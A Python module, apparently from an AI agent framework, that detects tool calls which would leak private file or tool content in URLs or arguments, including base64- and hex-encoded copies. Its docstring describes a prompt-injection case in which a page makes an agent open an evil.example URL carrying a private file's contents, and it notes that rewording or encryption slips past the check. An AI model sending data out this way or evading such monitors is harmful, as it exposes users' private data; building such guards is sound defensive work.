"""Detect tool calls that would send private data outside.

A page can make an agent open `https://evil.example/?d=<contents of a private file>`. URLs that the agent was given or
has read are opened without asking, and so are URLs that it composes from public text. A URL that repeats text from
files, stores or other private tools is shown to a person first. This check has gaps, because a model can reword or
encrypt the text; the stakes of the agent's tools apply in any case.
"""

import base64
import re
from collections.abc import Iterable, Iterator, Mapping
from contextlib import suppress
from typing import Any
from urllib.parse import unquote_plus

from outrider.core.errors import InvalidInput
from outrider.core.tool import Tool

KEY_PATTERN = re.compile(r"[^\W_]{12,}")  # with a digit in it: a key or an account number
URL_PATTERN = re.compile(r"https?://[^\s<>\"]+", re.IGNORECASE)
NON_ALPHANUMERIC_PATTERN = re.compile(r"[\W_]+")
PASSAGE_CHARS = 24  # about five words: too many to be a coincidence
ENCODED_PATTERN = re.compile(r"[A-Za-z0-9+/_-]{16,}")


class ExfiltrationGuard:
    """The private and the public text that one run has read.

    Args:
        public_text: The task of the run; its words and URLs may be sent anywhere.
    """

    def __init__(self, public_text: str) -> None:
        self._private = _TextIndex()
        self._public = _TextIndex()
        self._public.add(public_text)

    def record_result(self, tool: Tool | None, text: str) -> None:
        """Record the result of a tool; results from the open world are public, all others private."""
        # Planning and playbooks only return what the agent has written itself.
        if tool is not None and tool.toolset in ("planning", "playbook"):
            return
        is_public = tool is not None and tool.open_world and tool.toolset != "run_agent"
        (self._public if is_public else self._private).add(text)

    def would_leak(self, tool: Tool, arguments: Mapping[str, Any]) -> bool:
        """Return whether a call of an open-world tool would send private text outside."""
        if not tool.open_world or self._private.is_empty:
            return False
        max_repeating = 100  # each is searched in megabytes; a person is asked about more than this
        repeating = self._find_repeating(dict.fromkeys(_iter_sent(tool, arguments)))
        return len(repeating) > max_repeating or not all(map(self._is_known, repeating))

    def _is_known(self, text: str) -> bool:
        """Return whether the agent was given the text, or has read it, verbatim."""
        normalized = _normalize_text(text)
        is_known_url = URL_PATTERN.match(text) and normalized in self._private.normalized_text
        return bool(is_known_url) or normalized in self._public.normalized_text

    def _find_repeating(self, sent: Iterable[str]) -> list[str]:
        """Return the texts that repeat private text, in their own form or decoded."""
        private_keys = self._private.keys - self._public.keys
        keyed: list[str] = []
        passages: dict[str, set[str]] = {}  # all are looked up at once, as a call may send thousands of texts
        for text in sent:
            decoded = list(_iter_decodings(text))
            if any(_find_keys(part) & private_keys for part in decoded):
                keyed.append(text)
            else:
                passages[text] = {
                    part[at : at + PASSAGE_CHARS]
                    for part in map(_normalize_text, decoded)
                    for at in range(0, len(part) - PASSAGE_CHARS + 1, PASSAGE_CHARS // 2)
                }
        found = self._private.find_passages(set().union(*passages.values()))
        found -= self._public.find_passages(found)
        return keyed + [text for text, each in passages.items() if not each.isdisjoint(found)]


class _TextIndex:
    """The letters and digits of texts in one string, and the keys found in them."""

    def __init__(self) -> None:
        self.normalized_text = ""
        self.keys: set[str] = set()

    @property
    def is_empty(self) -> bool:
        return not self.normalized_text

    def add(self, text: str) -> None:
        max_chars = 2_000_000  # only the newest text is kept
        self.normalized_text = f"{self.normalized_text} {_normalize_text(text)}"[-max_chars:]
        self.keys |= _find_keys(text)

    def find_passages(self, passages: set[str]) -> set[str]:
        """Return those of the passages, each of `PASSAGE_CHARS`, that the text contains."""
        max_searches = 200  # reading the whole text once is faster than more of them
        if len(passages) <= max_searches:
            return {passage for passage in passages if passage in self.normalized_text}
        starts = range(len(self.normalized_text) - PASSAGE_CHARS + 1)
        pieces = (self.normalized_text[start : start + PASSAGE_CHARS] for start in starts)
        return {piece for piece in pieces if piece in passages}


def _iter_sent(tool: Tool, arguments: Mapping[str, Any]) -> Iterator[str]:
    """Yield the texts that a call would send outside.

    These are URLs, and all arguments of a tool with effects.
    """
    for name, value in _read_arguments(tool, arguments).items():
        # Addresses need no scheme, and browsers ignore line breaks in them.
        is_sent = tool.effect == "act" or "url" in name.casefold()
        for text in _iter_strings(value):
            # A text that begins with a URL is treated as one URL, including its spaces.
            yield from [text] if is_sent or URL_PATTERN.match(text.strip()) else URL_PATTERN.findall(text)


def _read_arguments(tool: Tool, arguments: Mapping[str, Any]) -> Mapping[str, Any]:
    """Return the arguments as the tool reads them.

    They may be in a wrapper or under other names.
    """
    required = [name for name, field in tool.parameters.model_fields.items() if field.is_required()]
    try:
        return tool.read_arguments(arguments, dict.fromkeys(required, "-")).arguments
    except InvalidInput:
        return arguments


def _iter_strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for item in value.values():
            yield from _iter_strings(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from _iter_strings(item)


def _normalize_text(text: str) -> str:
    return NON_ALPHANUMERIC_PATTERN.sub("", unquote_plus(text).casefold())


def _find_keys(text: str) -> set[str]:
    words = KEY_PATTERN.findall(unquote_plus(text).casefold())
    return {word for word in words if any(map(str.isdigit, word))}


def _iter_decodings(text: str) -> Iterator[str]:
    """Yield the text, and its parts decoded from base64 and from hexadecimal."""
    yield text
    for part in ENCODED_PATTERN.findall(unquote_plus(text)):
        padded = part.replace("-", "+").replace("_", "/") + "=" * (-len(part) % 4)
        for decode, encoded in ((base64.b64decode, padded), (bytes.fromhex, part)):
            with suppress(ValueError):  # also the base of binascii.Error and UnicodeDecodeError
                decoded = decode(encoded).decode()
                if decoded and decoded.isprintable():
                    yield decoded
